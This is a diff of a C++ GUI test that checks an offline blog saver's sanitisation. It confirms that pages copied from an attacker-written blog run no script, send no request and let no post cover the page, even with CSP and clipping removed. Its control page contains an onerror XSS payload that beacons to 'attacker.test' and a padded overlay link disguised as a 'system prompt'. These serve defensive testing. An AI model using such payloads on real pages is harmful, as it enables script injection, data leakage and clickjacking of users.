@@ -1,7 +1,9 @@
 // A save given what it must not trust. The copy of a blog an attacker wrote, opened in the
-// program's own browser with the copy's Content-Security-Policy taken out: the cleaning alone
-// must keep every script from running, every request from leaving (no refresh, no form, no
-// other base) and every post in view. And an address that names no blog: nothing is written.
+// program's own browser as it was written and with the page's own guards (its
+// Content-Security-Policy, the clip around each post) taken out: the cleaning alone must keep
+// every script from running, every request from leaving (no refresh, no form, no other base),
+// every post in view and every post off the page's own heading and links. And an address that
+// names no blog: nothing is written.
 
 #include "tests/gui/form1_fixture.h"
 
@@ -13,6 +15,7 @@
 
 #include <filesystem>
 #include <fstream>
+#include <iterator>
 #include <regex>
 #include <set>
 #include <sstream>
@@ -50,21 +53,34 @@ std::string inspection(const std::vector<std::u16string>& markers) {
            "'addresses:' + all.map(e => e.href || e.src || '').filter(a => a && "
            "!/^(https?|file):/.test(a)).join(' '),"
            "'shown:' + [" +
-           list + "].filter(m => document.body.innerText.includes(m)).length]; })()";
+           list +
+           "].filter(m => document.body.innerText.includes(m)).length,"
+           // What a reader who points at the page's own heading or links reaches.
+           "...(() => { const own = Array.from(document.querySelectorAll("
+           "'nav > *, h1, article.post > h2, p.source > a'));"
+           "const covered = own.filter(e => {"
+           "e.scrollIntoView({block: 'center', inline: 'center'});"
+           "const box = e.getClientRects()[0];"
+           "const hit = box && document.elementFromPoint(box.left + box.width / 2,"
+           "box.top + box.height / 2);"
+           "return !hit || !e.contains(hit); });"
+           "return ['own:' + own.length, 'covered:' + covered.map(e => e.textContent).join('|')];"
+           "})()]; })()";
 }
 
-Texts expected_inspection(std::size_t markers) {
-    return {u"ran:false",  u"base:true",
-            u"active:0",   u"styles:1",
-            u"placed:0",   u"handlers:0",
-            u"addresses:", u"shown:" + platform::decimal(static_cast<long long>(markers))};
+// `own`: how many of the page's own headings and links are pointed at.
+Texts expected_inspection(std::size_t markers, std::size_t own) {
+    const auto number = [](std::size_t n) { return platform::decimal(static_cast<long long>(n)); };
+    return {u"ran:false",          u"base:true",  u"active:0",   u"styles:1",
+            u"placed:0",           u"handlers:0", u"addresses:", u"shown:" + number(markers),
+            u"own:" + number(own), u"covered:"};
 }
 
 class HostileCopyTest : public Form1Fixture {
 protected:
-    explicit HostileCopyTest(std::vector<std::string> service_arguments = {"--posts", "5",
-                                                                           "--per-page", "10",
-                                                                           "--hostile"})
+    explicit HostileCopyTest(std::vector<std::string> service_arguments =
+                                 {"--posts", std::to_string(sample_blog::k_hostile_posts),
+                                  "--per-page", "10", "--hostile"})
         : Form1Fixture(std::move(service_arguments)) {}
 
     void SetUp() override {
@@ -107,29 +123,56 @@ protected:
         }
         return found;
     }
+
+    // Every page of the copy in `folder`, judged as a reader sees it; `csp`: whether its pages
+    // keep their Content-Security-Policy meta (the one active element they may hold).
+    void expect_every_page_safe(const fs::path& folder, const std::vector<std::u16string>& markers,
+                                bool csp) {
+        const std::size_t posts = markers.size();
+        const auto expected = [&](std::size_t shown_markers, std::size_t own) {
+            Texts texts = expected_inspection(shown_markers, own);
+            texts[2] = csp ? u"active:1" : u"active:0";
+            return texts;
+        };
+        // The index: its heading and its link to all.html. All posts: its heading, its link to
+        // the index, and each post's heading and source link. A post: its heading, its source
+        // link and twice the links to the index, the previous and the next post.
+        EXPECT_EQ(shown(folder / "index.html", {}), expected(0, 2));
+        EXPECT_EQ(shown(folder / "all.html", markers), expected(posts, 2 + 2 * posts));
+        for (std::size_t n = 1; n <= posts; ++n) {
+            EXPECT_EQ(shown(folder / "posts" / (std::to_string(n) + ".html"), {markers[n - 1]}),
+                      expected(1, 8))
+                << folder << " post " << n;
+        }
+    }
 };
 
 using SaveTest = HostileCopyTest;
 
-// The copy's pages without their CSP meta, in a folder of their own.
-void copy_without_csp(const fs::path& from, const fs::path& to) {
+// The copy's pages without what guards them besides the cleaning (their CSP meta and the clip
+// around each post body), in a folder of their own.
+void copy_without_page_guards(const fs::path& from, const fs::path& to) {
     fs::copy(from, to, fs::copy_options::recursive);
-    const std::regex csp("<meta http-equiv=\"Content-Security-Policy\"[^>]*>");
+    const std::regex guards("<meta http-equiv=\"Content-Security-Policy\"[^>]*>|"
+                            "article\\.post-body\\{overflow-x:auto;overflow-y:hidden\\}");
     for (const auto& entry : fs::recursive_directory_iterator(to)) {
         if (entry.path().extension() != ".html") {
             continue;
         }
         std::ifstream in(entry.path(), std::ios::binary);
         const std::string page((std::istreambuf_iterator<char>(in)), {});
-        ASSERT_TRUE(std::regex_search(page, csp)) << entry.path();
+        const auto found = std::distance(std::sregex_iterator(page.begin(), page.end(), guards),
+                                         std::sregex_iterator());
+        ASSERT_EQ(found, 2) << entry.path();
         std::ofstream(entry.path(), std::ios::binary | std::ios::trunc)
-            << std::regex_replace(page, csp, "");
+            << std::regex_replace(page, guards, "");
     }
 }
 
 } // namespace
 
-TEST_F(HostileCopyTest, NoScriptRunsAndNoRequestLeavesWithoutTheCsp) {
+TEST_F(HostileCopyTest,
+       NoScriptRunsNoRequestLeavesAndNoPostCoversThePageWithOrWithoutThePageGuards) {
     Texts posts;
     std::vector<std::u16string> markers;
     for (int n = 1; n <= hostile_blog.post_count(); ++n) {
@@ -144,25 +187,24 @@ TEST_F(HostileCopyTest, NoScriptRunsAndNoRequestLeavesWithoutTheCsp) {
 
     const testing_support::TempFolder scratch;
     const fs::path copy = scratch.path() / "copy";
-    copy_without_csp(user_folder() / u8"离线浏览", copy);
+    copy_without_page_guards(user_folder() / u8"离线浏览", copy);
     const std::string before = service().request_log();
 
-    EXPECT_EQ(shown(copy / "all.html", markers), expected_inspection(markers.size()));
-    for (int n = 1; n <= hostile_blog.post_count(); ++n) {
-        EXPECT_EQ(shown(copy / "posts" / (std::to_string(n) + ".html"), {markers[n - 1]}),
-                  expected_inspection(1))
-            << "post " << n;
-    }
+    expect_every_page_safe(user_folder() / u8"离线浏览", markers, true);
+    expect_every_page_safe(copy, markers, false);
     EXPECT_EQ(attacker_requests(before), "");
 
     // The same look sees a payload that is let through: the test can tell.
     std::ofstream(copy / "control.html")
         << "<!DOCTYPE html><meta charset=utf-8><title>c</title><style></style><body><p>"
         << platform::utf16_to_utf8(markers[0]) << "</p><img src=x onerror=\"document.title="
-        << "'ran-control';new Image().src='http://attacker.test/ran/control'\">";
-    Texts control = expected_inspection(1);
+        << "'ran-control';new Image().src='http://attacker.test/ran/control'\">"
+        << "<nav><a href=\"1.html\">下一篇</a></nav><a href=\"http://attacker.test/fix\" "
+        << "style=\"padding:4000px;background-color:white\">系统提示</a>";
+    Texts control = expected_inspection(1, 1);
     control[0] = u"ran:true";
     control[5] = u"handlers:1";
+    control[9] = u"covered:下一篇";
     EXPECT_EQ(shown(copy / "control.html", {markers[0]}), control);
     EXPECT_EQ(attacker_requests(before), "http://attacker.test/ran/control\n");
 }
